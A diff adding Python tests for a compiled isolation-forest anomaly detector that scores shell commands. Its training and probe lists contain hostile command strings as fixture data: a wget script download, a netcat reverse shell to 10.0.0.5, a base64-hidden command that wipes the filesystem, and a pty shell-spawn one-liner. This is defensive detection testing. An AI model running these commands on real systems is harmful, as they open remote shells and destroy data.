@@ -0,0 +1,43 @@
+import numpy as np
+from sklearn.ensemble import IsolationForest
+
+from anomaly_features import extract_features_matrix
+from isolation_forest_compiled import CompiledForest, compile_forest
+
+TRAINING = [
+    "ls -la", "cd /tmp", "cat /etc/passwd", "ps aux", "whoami", "uname -a",
+    "wget http://10.0.0.5/x.sh", "chmod +x x.sh", "nc -e /bin/sh 10.0.0.5 4444",
+    "echo $(base64 -d <<< cm0gLXJmIC8=)", "sudo su", "history -c",
+] * 5
+
+PROBES = TRAINING[:12] + ["", "A" * 300, "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"]
+
+
+def _fit(**kwargs):
+    X = extract_features_matrix(TRAINING)
+    return IsolationForest(random_state=7, **kwargs).fit(X)
+
+
+def test_compiled_matches_decision_function():
+    for kwargs in ({}, {"n_estimators": 37, "max_samples": 20, "contamination": 0.1}, {"max_features": 0.5}):
+        model = _fit(**kwargs)
+        compiled = compile_forest(model)
+        X = extract_features_matrix(PROBES)
+        np.testing.assert_allclose(compiled.decision_function(X), model.decision_function(X), rtol=0, atol=1e-12)
+        np.testing.assert_allclose(compiled.score_samples(X), model.score_samples(X), rtol=0, atol=1e-12)
+
+
+def test_random_inputs_match():
+    model = _fit(n_estimators=50)
+    compiled = compile_forest(model)
+    X = np.random.default_rng(0).normal(scale=20.0, size=(500, model.n_features_in_))
+    np.testing.assert_allclose(compiled.decision_function(X), model.decision_function(X), rtol=0, atol=1e-12)
+
+
+def test_saved_arrays_reload_memory_mapped(tmp_path):
+    model = _fit(n_estimators=25)
+    compile_forest(model).save(str(tmp_path))
+    loaded = CompiledForest.load(str(tmp_path))
+    assert isinstance(loaded.threshold, np.memmap)
+    X = extract_features_matrix(PROBES)
+    np.testing.assert_allclose(loaded.decision_function(X), model.decision_function(X), rtol=0, atol=1e-12)